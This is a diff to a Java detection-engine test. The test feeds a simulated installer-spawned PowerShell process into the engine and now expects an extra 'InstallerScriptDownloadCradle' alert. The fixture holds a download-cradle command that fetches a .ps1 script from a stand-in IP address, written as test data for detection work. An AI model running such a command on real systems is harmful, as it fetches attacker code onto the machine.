@@ -143,7 +143,8 @@ class SeedProceduresTest {
         start(6000, 6010, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", SYSTEM,
                 "powershell.exe -NoProfile -Command Invoke-WebRequest http://203.0.113.5/a.ps1 -OutFile a.ps1");
         detect();
-        assertEquals("INSTALLER_CHILD_PROCESS", arms());
+        // The seed's arm, and the Hookline pack's download-cradle arm below an installer.
+        assertEquals("INSTALLER_CHILD_PROCESS,InstallerScriptDownloadCradle", arms());
         Alert a = alerts.get(0);
         assertEquals("powershell.exe", a.event().getString(Columns.FILE_NAME));
         assertEquals("msiexec.exe", a.event().getString(Columns.INITIATING_PROCESS_FILE_NAME));
